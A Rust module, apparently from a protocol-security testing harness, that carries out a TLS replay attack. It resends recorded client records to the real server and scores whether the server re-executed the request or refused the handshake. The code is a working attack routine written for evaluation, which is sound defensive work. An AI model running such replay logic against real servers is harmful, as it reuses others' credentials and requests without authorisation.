//! The attacker plays a recorded connection to the genuine server again, byte for byte.

use super::Tactic;
use crate::field::{Field, Probe};
use crate::listen::{Heard, hear};
use crate::notes::Notes;
use crate::speak::grow;
use crate::target::Target;
use async_trait::async_trait;
use ravelin_host::BoxedStream;
use ravelin_oracle::dissect::{Dissected, Side, StartLine, TlsSession, dissect, exchanges};
use ravelin_oracle::{Attempt, GainKind, Property, Protection};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::time::timeout;

/// How long the server gets to answer a record.
const PAUSE: Duration = Duration::from_millis(200);

/// Playing a connection again.
pub struct Replay;

#[async_trait(?Send)]
impl Tactic for Replay {
    fn name(&self) -> &'static str {
        "replay-connection"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let recorded = hear(field, target);
        let recorded = recorded
            .into_iter()
            .filter(|heard| target.servers.contains(&heard.server) && heard.opened_at >= field.began());
        for heard in recorded {
            play(&notes, &heard).await;
        }
        notes.finish()
    }
}

async fn play(notes: &Notes<'_>, recorded: &Heard) {
    let field = notes.field();
    let flow = field.flow(recorded.server);
    let Ok(connection) = field.connect(recorded.server).await else { return };
    let mut stream = connection.stream;
    let mut answered = Vec::new();
    for record in records(&recorded.from_client) {
        let sent = async {
            stream.write_all(record).await?;
            stream.flush().await
        };
        if sent.await.is_err() || !listen(&mut stream, &mut answered).await {
            break;
        }
    }
    notes.tell(format!("{flow}: played a recorded connection again"));
    // What the server said can be read with the run's own keys; the attacker has none.
    let session = dissect(&recorded.from_client, &answered, &field.referee_secrets());
    let Dissected::Tls(session) = session else { return };
    judge(notes, &flow, &session);
}

/// Reads what the server has to say to the last record; false once it has ended the connection.
async fn listen(stream: &mut BoxedStream, answered: &mut Vec<u8>) -> bool {
    loop {
        match timeout(PAUSE, grow(stream, answered)).await {
            Err(_) => return true,
            Ok(Ok(true)) => {}
            Ok(_) => return false,
        }
    }
}

/// The TLS records of a stream (RFC 8446 section 5.1); what is no whole record comes last.
fn records(mut bytes: &[u8]) -> Vec<&[u8]> {
    let mut found = Vec::new();
    while let [_, _, _, high, low, ..] = *bytes {
        let length = 5 + usize::from(u16::from_be_bytes([high, low]));
        let (record, rest) = bytes.split_at(length.min(bytes.len()));
        found.push(record);
        bytes = rest;
    }
    found
}

const AIMS: &[Property] = &[Property::CredentialSafe, Property::AccessControlled, Property::RequestAuthentic];

fn judge(notes: &Notes<'_>, flow: &str, session: &TlsSession) {
    let granted = exchanges(&session.client, &session.server)
        .into_iter()
        .filter_map(|exchange| exchange.response)
        .any(|response| matches!(response.start, StartLine::Response { status: 101 | 200..300 }));
    if granted {
        let text = "had the client's recorded request executed again";
        notes.gained(flow, GainKind::ExecutedAsClient, text);
        notes.gained(flow, GainKind::CredentialUsed, text);
        return notes.gained(flow, GainKind::BeyondRights, text);
    }
    let refusal = session.alerts.iter().find(|alert| alert.from == Side::Server && !alert.is_close());
    match refusal {
        Some(alert) => {
            let text = format!("the server ended the handshake with alert {}", alert.description);
            notes.refused(flow, Protection::FreshHandshake, text, AIMS);
        }
        None => notes.tell(format!("{flow}: the replay was not answered")),
    }
}
